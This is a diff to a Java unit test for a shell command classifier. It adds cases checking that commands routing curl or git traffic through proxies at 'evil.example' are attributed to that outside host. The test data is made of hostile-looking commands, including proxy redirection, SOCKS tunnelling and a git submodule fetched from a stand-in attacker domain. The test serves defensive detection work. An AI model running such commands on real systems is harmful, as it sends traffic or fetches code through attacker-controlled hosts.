@@ -114,6 +114,8 @@ class ShellClassifierTest {
         "curl --preproxy socks5://evil.example https://github.com|evil.example",
         "curl --socks5-hostname evil.example:1080 https://github.com|evil.example",
         "getent hosts data.evil.example|data.evil.example",
+        "https_proxy=http://evil.example:8080 curl https://github.com|evil.example",
+        "git -c http.proxy=http://evil.example:3128 fetch origin|evil.example",
         "git submodule add https://evil.example/x.git vendor/x|evil.example"
       })
   void classify_otherHost_isDomainTarget(String command, String host) {
